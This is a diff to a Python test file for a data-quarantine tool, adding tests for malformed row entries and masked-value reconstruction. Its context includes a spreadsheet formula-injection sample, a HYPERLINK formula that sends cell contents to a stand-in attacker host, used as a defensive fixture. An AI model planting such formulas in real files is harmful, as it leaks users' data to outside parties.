@@ -7,8 +7,10 @@ from pathlib import Path
 
 import pytest
 
+from baton.data.cells import MASKED
+from baton.errors import BatonError
 from baton.quarantine import files
-from baton.quarantine.rows import Where, list_rows
+from baton.quarantine.rows import Where, list_rows, value_of
 from baton.record import tables, warehouse
 
 FORMULA = '=HYPERLINK("http://evil.example/"&A1)'
@@ -43,3 +45,19 @@ def test_columns_come_back_under_their_own_names(waiting: Path) -> None:
     path.write_text(path.read_text(encoding="utf-8").replace("=cell", "new"), "utf-8")
     assert files.repair_file(path, "ada").cells == len(HOSTILE)
     assert set(list_rows(Where())[0].repair) == set(HOSTILE)
+
+
+@pytest.mark.parametrize("entry", ["5", '{"row": 1}', '{"cells": ["a"]}'])
+def test_an_entry_without_cells_is_named(home: Path, entry: str) -> None:
+    path = home / "rows.json"
+    path.write_text(f"[{entry}]")
+    with pytest.raises(BatonError, match="entry 1: expected an object with `cells`"):
+        files.repair_file(path, "ada")
+
+
+def test_who_may_decide_reads_a_masked_value_from_the_row_and_its_repair() -> None:
+    record = {"value": MASKED, "column": "name, age", "raw": {"name": "Ann", "age": "x"}, "repair": None}
+    assert value_of(record) == "Ann, x"
+    assert value_of({**record, "repair": {"age": "7"}}) == "Ann, 7"
+    assert value_of({**record, "raw": None}) == ", "
+    assert value_of({**record, "value": "seen"}) == "seen"
